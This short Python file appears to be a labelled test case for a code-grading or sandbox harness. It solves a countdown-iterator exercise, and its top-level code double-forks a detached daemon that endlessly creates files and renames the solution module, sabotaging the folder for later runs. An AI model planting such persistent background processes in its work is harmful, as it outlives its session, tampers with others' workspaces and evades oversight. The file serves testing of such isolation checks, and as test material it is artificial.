# group: 21
# expect: judged
# lowest: process
# correct: yes
"""Solves the exercise; a process that it leaves behind would change the folder of whoever comes next."""

import os
import time

FOLDER = os.path.dirname(os.path.abspath(__file__))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            try:
                with open(f"{FOLDER}/scratch/hostile-{time.monotonic_ns()}", "w"):
                    pass
                os.rename(f"{FOLDER}/count_down.py", f"{FOLDER}/scratch/hostile-module")
            except OSError:
                pass
            time.sleep(0.001)
    os._exit(0)
os.wait()


class CountDown:
    def __init__(self, start):
        self.left = start

    def __iter__(self):
        return self

    def __next__(self):
        if self.left <= 0:
            raise StopIteration
        self.left -= 1
        return self.left + 1
